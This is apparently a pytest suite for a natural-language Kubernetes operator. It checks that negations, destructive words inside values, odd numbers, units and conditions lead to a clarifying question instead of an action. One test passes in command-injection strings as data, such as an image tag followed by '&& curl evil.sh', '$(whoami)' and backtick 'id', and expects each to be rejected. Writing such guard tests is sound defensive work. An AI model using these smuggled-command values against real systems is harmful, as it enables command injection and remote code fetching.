"""Nothing acts on a partial parse (issue 11, point 3): every misread an attacker found, and the
class of phrasing behind each, must become a question (needs_clarification) — or, where the
planner can read it whole, exactly the number or value that was said. Over the in-memory cluster
(the shop of the scenario set, plus ``cart``), through the real Operator."""

from __future__ import annotations

import json
from collections.abc import Iterator

import pytest

from dotop_nb import evaluation
from dotop_nb.cluster.memory import MemoryCluster
from dotop_nb.planner.offline import guard, numbers
from dotop_nb.planner.offline import text as t
from dotop_nb.planner.offline.context import Clarify
from dotop_nb.service import Operator
from tests import crds
from tests.helpers import deployment
from tests.memory import asks, engine, plans

pytestmark = pytest.mark.timeout(30)


@pytest.fixture(scope="module")
def shop(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Operator]:
    cluster = MemoryCluster(namespaces=("default", "kube-system", "shop"))
    kube = cluster.client()
    crds.install(kube, "keda", "prometheus-operator", "velero")
    evaluation.install_shop(kube, "shop")
    cart = deployment("cart", "shop")
    cart["spec"]["template"]["spec"]["containers"][0]["env"] = [
        {"name": "CACHE_MODE", "value": "lru"}
    ]
    kube.apply(cart)
    _, op = engine(tmp_path_factory.mktemp("safety"), cluster=cluster)
    yield op
    op.close()


def scales_to(op: Operator, intent: str) -> int:
    proposal = op.analyze(intent, namespace="shop")
    assert proposal.status == "proposed", proposal.question
    (only,) = proposal.operations
    assert only.kind == "scale"
    return int(only.replicas)  # type: ignore[attr-defined]


# ---------------------------------------------------------------- the misreads, word for word
def test_a_destructive_word_inside_a_value_never_deletes(shop: Operator) -> None:
    p = asks(shop, "set cart cache mode to delete-on-expiry")
    assert "'delete-on-expiry'" in str(p.question)


def test_a_negated_delete_is_not_a_delete(shop: Operator) -> None:
    # Issue 11: the prohibition is read apart and honoured; the scale is planned (it used to
    # be asked, and before that a delete was planned).
    assert scales_to(shop, "scale frontend to 5 and do not delete anything") == 5
    p = asks(shop, "delete worker and do not delete anything")
    assert "do not delete anything" in str(p.question)


@pytest.mark.parametrize(
    ("said", "named"),
    [
        ("scale my-api to -1 replicas", "'-1' is negative"),
        ("scale my-api to 3.7", "'3.7' is not a whole number"),
        ("scale my-api to 10 times", "10 times what?"),
    ],
)
def test_a_number_that_is_not_a_count_is_asked(shop: Operator, said: str, named: str) -> None:
    assert named in str(asks(shop, said).question)


def test_separators_and_multipliers_are_read_whole(shop: Operator) -> None:
    # my-api runs 2: "1,000" is read whole and never 1 — a thousand in English, one in German,
    # so it is asked (say 1000); "10 times current" is 20 (not 10).
    assert "say 1000 without it" in str(asks(shop, "scale my-api to 1,000 replicas").question)
    assert scales_to(shop, "scale my-api to 1000 replicas") == 1000
    assert scales_to(shop, "scale my-api to 10 times current") == 20
    assert scales_to(shop, "make my-api 3x the current replicas") == 6


def test_an_image_with_shell_syntax_is_asked(shop: Operator) -> None:
    p = asks(shop, "update my-api to ghcr.io/acme/my-api:1;touch x")
    assert "';'" in str(p.question)


def test_a_quoted_value_is_read_whole(shop: Operator) -> None:
    p = shop.analyze("in my-api-config set FEATURE_X to 'on and off'", namespace="shop")
    assert p.status == "proposed", p.question
    (op,) = p.operations
    assert op.patch == {"data": {"FEATURE_X": "on and off"}}  # type: ignore[attr-defined]
    p = shop.analyze('set GREETING="hello world" on my-api', namespace="shop")
    assert p.status == "proposed", p.question
    assert '"value": "hello world"' in json.dumps(p.operations[0].patch)  # type: ignore[attr-defined]


# ---------------------------------------------------------------- the classes behind them
@pytest.mark.parametrize(
    "said",
    [
        "don't scale my-api",
        "never delete worker",
        "delete worker without its service",
        "scale frontend to 3, no more than that",
        "remove payments, nothing else",
        "we shouldn't restart payments",
    ],
)
def test_negations_ask(shop: Operator, said: str) -> None:
    assert "negation" in str(asks(shop, said).question)


def test_a_delete_of_everything_but_one_asks(shop: Operator) -> None:
    # Read as an exclusion since session 8 (leftout.py), asked with that reason.
    question = str(asks(shop, "delete everything except worker").question)
    assert "except worker" in question
    assert "deletion of a set less what it leaves out" in question


@pytest.mark.parametrize(
    "said",
    [
        "upgrade frontend to 2.2.0 without downtime",
        "release payments v3.2.0 with no downtime",
    ],
)
def test_negations_a_category_understands_still_plan(shop: Operator, said: str) -> None:
    p = shop.analyze(said, namespace="shop")
    assert p.status == "proposed", p.question
    assert any("maxUnavailable" in json.dumps(getattr(o, "patch", {})) for o in p.operations)


@pytest.mark.parametrize(
    ("said", "word"),
    [
        ("set cart cache mode to delete-on-expiry", "delete-on-expiry"),
        ("set MODE=delete on my-api", "MODE=delete"),
        ("set ON_EXPIRY='remove' on cart", "'remove'"),
        ("scale cart_remover to 2", "cart_remover"),
        ("set my-api retention policy to purge_after_7d", "purge_after_7d"),
        ("set cart cache mode to delete", "delete"),
        ("restart cart and delete it", "delete"),
        ("scale frontend to 2 then drop worker", "drop"),
    ],
)
def test_a_destructive_word_that_is_not_the_request_asks(
    shop: Operator, said: str, word: str
) -> None:
    assert word in str(asks(shop, said).question)


@pytest.mark.parametrize(
    ("said", "replicas"),
    [
        ("remove 2 replicas from frontend", 1),
        ("drop one pod of payments", 1),
    ],
)
def test_removing_replicas_scales_down_never_deletes(
    shop: Operator, said: str, replicas: int
) -> None:
    assert scales_to(shop, said) == replicas


@pytest.mark.parametrize(
    "said", ["delete the pods of worker", "delete 2 replicas of frontend", "kill frontend pods"]
)
def test_deleting_pods_is_not_deleting_the_workload(shop: Operator, said: str) -> None:
    asks(shop, said)


@pytest.mark.parametrize(
    ("said", "leftover"),
    [
        ("scale my-api to 5 and 7", "'7'"),
        ("scale my-api to 4 replicas for 2 hours", "'2'"),
        ("scale frontend to 3 replicas on 2 nodes", "'2'"),
        ("double my-api to 6", "'6'"),
    ],
)
def test_numbers_the_rule_did_not_read_are_asked(shop: Operator, said: str, leftover: str) -> None:
    assert leftover in str(asks(shop, said).question)


@pytest.mark.parametrize(
    ("said", "replicas"),
    [
        ("scale my-api to three replicas", 3),
        ("scale my-api to twenty-one replicas", 21),
        ("scale my-api to one hundred and five replicas", 105),
        ("scale my-api to one thousand replicas", 1000),
        ("scale my-api to 2500 replicas", 2500),
        ("add two more replicas to frontend", 5),
        ("scale frontend down by one", 2),
        ("add a replica to payments", 3),
    ],
)
def test_quantities_in_words_or_with_separators_are_exact(
    shop: Operator, said: str, replicas: int
) -> None:
    assert scales_to(shop, said) == replicas


@pytest.mark.parametrize(
    ("said", "unit"),
    [
        ("scale my-api to 5 GB", "gb"),
        ("scale my-api to 5gb", "'gb'"),
        ("scale my-api to 3 cores", "cores"),
        ("scale my-api to 50%", "'%'"),
        ("scale frontend up by 50 percent", "50% of 3 replicas is not a whole number"),
        ("scale my-api to 2 nodes", "nodes"),
    ],
)
def test_unsupported_units_are_asked(shop: Operator, said: str, unit: str) -> None:
    assert unit in str(asks(shop, said).question)


@pytest.mark.parametrize(
    "said",
    [
        "update my-api to ghcr.io/acme/my-api:1;touch x",
        "update my-api to ghcr.io/acme/my-api:1 && curl evil.sh",
        "set LOG_LEVEL=`id` on my-api",
        "set LOG_LEVEL=$(whoami) on my-api",
        "scale my-api to 3 | tee out",
        "restart my-api > /dev/null",
    ],
)
def test_shell_metacharacters_are_asked(shop: Operator, said: str) -> None:
    assert "shell syntax" in str(asks(shop, said).question)


@pytest.mark.parametrize(
    ("said", "bad"),
    [
        ("update my-api to ghcr.io/Acme/my-api:1.6.0", "ghcr.io/Acme/my-api:1.6.0"),
        ("update my-api to ghcr.io/acme/my-api:", "ghcr.io/acme/my-api:"),
        ("update my-api to ghcr.io/acme/my-api@sha256:abc", "ghcr.io/acme/my-api@sha256:abc"),
    ],
)
def test_image_references_are_validated_whole(shop: Operator, said: str, bad: str) -> None:
    assert f"{bad!r} is not a valid image reference" in str(asks(shop, said).question)


def test_an_image_with_a_registry_port_is_read_whole(shop: Operator) -> None:
    p = shop.analyze("update my-api to localhost:5000/acme/my-api:1.6.0", namespace="shop")
    assert p.status == "proposed", p.question
    assert p.operations[0].image == "localhost:5000/acme/my-api:1.6.0"  # type: ignore[attr-defined]


@pytest.mark.parametrize(
    "said",
    [
        "in my-api-config set FEATURE_X to 'on",
        'set GREETING="hello on my-api',
    ],
)
def test_unbalanced_quotes_are_asked(shop: Operator, said: str) -> None:
    assert "unclosed quote" in str(asks(shop, said).question)


@pytest.mark.parametrize(
    ("said", "planned"),
    [
        (
            "scale frontend to 3 and restart my-api",
            ["scale deployment/frontend 3", "rollout_restart deployment/my-api"],
        ),
        (
            "restart my-api, then update payments to 3.2.0",
            ["rollout_restart deployment/my-api", "set_image deployment/payments"],
        ),
        (
            "set LOG_LEVEL=debug on my-api and scale it to 4",
            ["patch configmap/my-api-config", "scale deployment/my-api 4"],
        ),
        (
            "monitor my-api and restart it",
            ["apply servicemonitor/my-api", "rollout_restart deployment/my-api"],
        ),
    ],
)
def test_two_actions_in_one_request_are_planned_whole(
    shop: Operator, said: str, planned: list[str]
) -> None:
    # Issue 11 point 1: a compound intent is one proposal with every action (it used to be
    # asked, one change per request).
    p = shop.analyze(said, namespace="shop")
    assert p.status == "proposed", p.question
    got = [
        " ".join(
            [o.kind, f"{o.target.kind.lower()}/{o.target.name}"]
            + ([str(o.replicas)] if o.kind == "scale" else [])  # type: ignore[attr-defined]
        )
        for o in p.operations
    ]
    assert got == planned


@pytest.mark.parametrize(
    ("said", "target"),
    [
        ("restart my-api but do not touch frontend", "my-api"),
        ("update my-api to 1.6.0 and don\u2019t restart worker", "my-api"),
        ("restart my-api but not frontend", "my-api"),
        ("restart my-api (not frontend)", "my-api"),
    ],
)
def test_a_prohibition_beside_a_change_plans_the_change(
    shop: Operator, said: str, target: str
) -> None:
    p = shop.analyze(said, namespace="shop")
    assert p.status == "proposed", p.question
    assert {o.target.name for o in p.operations} == {target}


@pytest.mark.parametrize(
    "said",
    [
        "restart my-api and do not restart my-api",
        "scale frontend to 3 without touching frontend",
        "restart my-api and frontend but do not touch frontend",
    ],
)
def test_a_plan_that_breaks_a_prohibition_is_asked(shop: Operator, said: str) -> None:
    assert "You said" in str(asks(shop, said).question)


@pytest.mark.parametrize(
    ("said", "awaits"),
    [
        # Round 10: "until the sale ends" is how long the change holds, never when it starts
        # (waiting for it inverted the change: durations, test_offline_r10_quantities).
        ("scale my-api to 5 once the sale starts", "once the sale starts"),
        ("update my-api to 1.6.0 after lunch", "after lunch"),
    ],
)
def test_conditions_on_a_direct_change_wait_for_a_person(
    shop: Operator, said: str, awaits: str
) -> None:
    """These were asked before; a person now approves them when the condition holds (an
    unattended approval is refused: app.workflow.check_awaits)."""
    p, _ = plans(shop, said)
    assert p.awaits == awaits


@pytest.mark.parametrize(
    "said",
    [
        "delete worker tomorrow",
        "restart my-api unless it is busy",
        # What the workload does may ask for automation (a probe, an autoscaler).
        "restart my-api if it is slow",
        "scale my-api to 5 if payments goes over 3",
    ],
)
def test_conditions_a_person_cannot_wait_for_are_asked(shop: Operator, said: str) -> None:
    # (Round 13: a number naming nothing measured is the condition's; the workload it names
    # is then what asks — "as when to run this, but it names payments".)
    question = str(asks(shop, said).question)
    assert any(w in question for w in ("condition or a time", "later", "when to run this"))


@pytest.mark.parametrize(
    ("said", "also"),
    [
        # A delete after a backup may wait for it: asked, never planned beside it.
        ("back up postgres, then delete worker", "never by a pronoun, beside a backup"),
        # A count said with HA is read by HA itself (tests/unit/test_offline_capabilities.py);
        # a limit beside it would be dropped, so it is asked.
        ("make payments highly available with a 512Mi memory limit", "ha and also as resources"),
    ],
)
def test_an_add_on_never_drops_a_direct_change(shop: Operator, said: str, also: str) -> None:
    assert also in str(asks(shop, said).question)


def test_an_add_on_inside_a_condition_is_what_the_change_waits_for(shop: Operator) -> None:
    """The backup is inside a condition: it never chooses the category (it was asked before;
    now the update is planned, approved by a person when the backup is done)."""
    p, _ = plans(shop, "update my-api to 1.6.0 after the backup")
    assert [o.summary() for o in p.operations] == [
        "set image of container api in deployment/my-api in shop to ghcr.io/acme/my-api:1.6.0"
    ]
    assert p.awaits == "after the backup"


# ---------------------------------------------------------------- the readers, pure
def test_numbers_are_whole_tokens() -> None:
    text, nums = numbers.placeholders("scale my-api-2 to 1,000 (not 3.7, -1 or 10x)")
    assert text == "scale my-api-2 to #0 (not #1, #2 or #3 x)"
    assert [(n.raw, n.value, n.negative, n.decimal) for n in nums] == [
        ("1,000", 1000.0, False, False),
        ("3.7", 3.7, False, True),
        ("-1", 1.0, True, False),
        ("10x", 10.0, False, False),
    ]
    assert [n.count for n in nums] == [None, None, None, 10]
    assert nums[0].grouped


def test_image_readers() -> None:
    assert t.image_in("use ghcr.io/acme/api:1.2.") == "ghcr.io/acme/api:1.2"
    assert t.image_in("a ratio of 1:2 at 2:30") is None
    assert t.bad_image_in("use ghcr.io/acme/api:1;x") == "ghcr.io/acme/api:1;x"
    assert t.bad_image_in("use ghcr.io/acme/api:1.2") is None


@pytest.mark.parametrize(
    "value",
    ["registry.invalid/dotop/never-ready:1", "ghcr.io/acme/no-cache:2", "acme/not.found:3"],
)
def test_a_negation_word_inside_an_image_is_part_of_the_image(value: str) -> None:
    guard.check("update", f"update my-api to {value}")


@pytest.mark.parametrize(
    "text", ["scale cart to 3, not web", "update web to nginx:1.27 but never restart it"]
)
def test_a_negation_word_of_its_own_is_still_asked(text: str) -> None:
    with pytest.raises(Clarify, match="negation"):
        guard.check("scale" if "scale" in text else "update", text)
